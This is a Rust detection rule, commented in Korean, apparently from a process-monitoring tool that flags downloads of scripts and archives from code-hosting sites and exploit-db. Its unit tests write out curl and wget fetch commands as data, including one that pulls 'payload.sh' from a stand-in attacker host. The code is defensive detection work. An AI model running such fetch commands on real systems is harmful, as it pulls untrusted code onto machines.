//! 의심스러운 원격 파일 다운로드 탐지

use url::Url;

use procwatch_core::pipeline::Indicator;
use procwatch_core::types::{Finding, Record, Severity};

use super::RuleIdentity;
use super::matching::{
    contains_one_of, host_with_port, is_web_request, parse_request_uri, suffix_one_of,
};

/// 코드 호스팅 사이트
pub const CODE_HOSTING_SITES: &[&str] = &["github.com", "githubusercontent.com", "gitlab.com"];

/// 스크립트/압축 파일 확장자
pub const SUSPICIOUS_EXTENSIONS: &[&str] =
    &[".sh", ".bash", ".zip", ".gz", ".tar", ".tgz", ".rar"];

/// 익스플로잇 배포 사이트
pub const EXPLOIT_SITES: &[&str] = &["exploit-db.com"];

const IDENTITY: RuleIdentity = RuleIdentity {
    name: "Suspicious File Download",
    description: "A attempt has been made to download a suspicous file from a remote location",
    technique: "T1059, T1082, T1592",
};

/// 코드 호스팅 사이트의 스크립트/압축 파일, 또는 익스플로잇 사이트에서의
/// 다운로드를 탐지합니다.
#[derive(Debug, Default, Clone, Copy)]
pub struct SuspiciousDownload;

impl SuspiciousDownload {
    pub fn new() -> Self {
        Self
    }
}

/// 디코딩된 경로. UTF-8로 디코딩되지 않으면 인코딩된 경로를 그대로 사용합니다.
fn decoded_path(uri: &Url) -> String {
    let path = uri.path();
    urlencoding::decode(path)
        .map(|decoded| decoded.into_owned())
        .unwrap_or_else(|_| path.to_owned())
}

impl Indicator for SuspiciousDownload {
    fn name(&self) -> &str {
        IDENTITY.name
    }

    fn description(&self) -> &str {
        IDENTITY.description
    }

    fn technique(&self) -> &str {
        IDENTITY.technique
    }

    fn base_severity(&self) -> Severity {
        Severity::High
    }

    fn detect(&self, record: &Record) -> Option<Finding> {
        if !is_web_request(record) {
            return None;
        }

        for token in &record.cmdline {
            if !token.contains("http") {
                continue;
            }
            let Some(uri) = parse_request_uri(token) else {
                continue;
            };

            let host = host_with_port(&uri);
            let path = decoded_path(&uri);
            let file_name = path.rsplit('/').next().unwrap_or_default();

            let from_code_host = contains_one_of(&host, CODE_HOSTING_SITES)
                && (suffix_one_of(file_name, SUSPICIOUS_EXTENSIONS) || path.contains("binaries"));
            if from_code_host || contains_one_of(&host, EXPLOIT_SITES) {
                return Some(Finding::SuspiciousDownload {
                    file_name: file_name.to_owned(),
                    url: token.clone(),
                });
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::test_record;

    fn detect(cmdline: &[&str]) -> Option<Finding> {
        SuspiciousDownload::new().detect(&test_record("alice", cmdline))
    }

    #[test]
    fn github_script_download() {
        let url = "https://raw.githubusercontent.com/acme/tools/main/install.sh";
        let record = test_record("alice", &["curl", "-fsSL", url, "-o", "/tmp/i.sh"]);
        let rule = SuspiciousDownload::new();
        let finding = rule.detect(&record).unwrap();
        assert_eq!(
            finding,
            Finding::SuspiciousDownload {
                file_name: "install.sh".to_owned(),
                url: url.to_owned(),
            }
        );
        let alert = rule.alert(&record, finding);
        assert_eq!(alert.severity, Severity::High);
        assert_eq!(alert.detail.mitre, "T1059, T1082, T1592");
    }

    #[test]
    fn unknown_host_script_is_not_matched() {
        assert!(detect(&["curl", "-s", "https://evil.example/payload.sh", "-o", "/tmp/p.sh"]).is_none());
    }

    #[test]
    fn binaries_path_on_gitlab() {
        let finding = detect(&["wget", "https://gitlab.com/group/proj/-/binaries/agent"]).unwrap();
        assert!(matches!(finding, Finding::SuspiciousDownload { ref file_name, .. } if file_name == "agent"));
    }

    #[test]
    fn exploit_db_matches_any_file() {
        let finding = detect(&["wget", "https://www.exploit-db.com/download/12345"]).unwrap();
        assert!(matches!(finding, Finding::SuspiciousDownload { ref file_name, .. } if file_name == "12345"));
    }

    #[test]
    fn file_name_is_percent_decoded() {
        let finding = detect(&["curl", "https://github.com/a/b/releases/my%20tool.tar"]).unwrap();
        assert!(matches!(finding, Finding::SuspiciousDownload { ref file_name, .. } if file_name == "my tool.tar"));
    }

    #[test]
    fn github_page_without_archive_is_ignored() {
        assert!(detect(&["curl", "https://github.com/acme/tools"]).is_none());
    }

    #[test]
    fn requires_web_request_command() {
        assert!(detect(&["git", "clone", "https://github.com/acme/tools.zip"]).is_none());
    }
}
